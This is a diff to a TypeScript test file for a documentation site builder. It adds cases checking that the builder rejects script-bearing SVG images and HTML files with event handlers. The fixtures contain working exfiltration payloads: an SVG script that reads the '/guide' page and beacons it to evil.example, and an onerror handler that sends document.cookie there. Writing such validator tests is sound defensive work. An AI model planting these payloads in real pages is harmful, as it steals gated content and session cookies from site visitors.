@@ -53,6 +53,24 @@ const ERRORS: Case[] = [
     says: ['content/guide/zebra.md:5:1: code fence ```bash is never closed'.replace('```bash', '`'.concat('```bash', '`')), 'fix: add a line with'],
   },
   {
+    name: 'an SVG image holding a script (opened from the site, it ran on its origin and read the gated pages)',
+    change: (site) => {
+      write(site, 'content/guide/img/evil.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/guide").then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, "https://evil.example"))</script><rect width="10" height="10"/></svg>');
+      write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\nThe rack:\n\n![The rack](./img/evil.svg)\n');
+    },
+    code: 1,
+    says: ['content/guide/zebra.md:7:1: image "./img/evil.svg": content/guide/img/evil.svg is an SVG image that holds a script, an event handler or a javascript: link', 'fix: remove its scripts, event handlers and javascript: links (export the drawing again as a plain SVG), or show a PNG instead'],
+  },
+  {
+    name: 'a linked HTML file with an event handler',
+    change: (site) => {
+      write(site, 'content/guide/img/report.html', '<!doctype html><p>Results</p><img src="x" onerror="location=\'https://evil.example/?\'+document.cookie">');
+      write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\nSee [the report](./img/report.html).\n');
+    },
+    code: 1,
+    says: ['content/guide/zebra.md:5:5: link to "./img/report.html": content/guide/img/report.html is a document that holds a script, an event handler or a javascript: link'],
+  },
+  {
     name: 'a missing image',
     change: (site) => write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\n![The rack](./img/rack.png)\n'),
     code: 1,
@@ -208,6 +226,16 @@ describe('bad input', () => {
     expect(run.stderr).toContain('fix: look for a loop whose condition never changes');
     expect(Date.now() - started).toBeLessThan(30_000);
     expect(snapshotTree(join(site, 'dist'))).toEqual(before);
+  });
+
+  it('ends once built although the config left a timer and a server running (a CI job waited for its timeout)', () => {
+    const site = copyFixture('basic');
+    write(site, 'site.config.ts', "import { createServer } from 'node:http';\nimport { fixtureConfig } from '../_shared/config';\n\nsetInterval(() => undefined, 1000);\ncreateServer().listen(0, '127.0.0.1');\nexport default fixtureConfig();\n");
+    for (const args of [['build'], ['build', '--json']]) {
+      const run = runDocs(args, { cwd: site, timeout: 60_000 });
+      expect(run.code, `${args.join(' ')}: ${run.stderr}`).toBe(0);
+      expect(args.includes('--json') ? (JSON.parse(run.stdout) as { ok: boolean }).ok : run.stdout).toBeTruthy();
+    }
   });
 
   it('ends a build whose own promise fails unawaited with an internal error (exit 70), not in silence, and leaves the output untouched', () => {
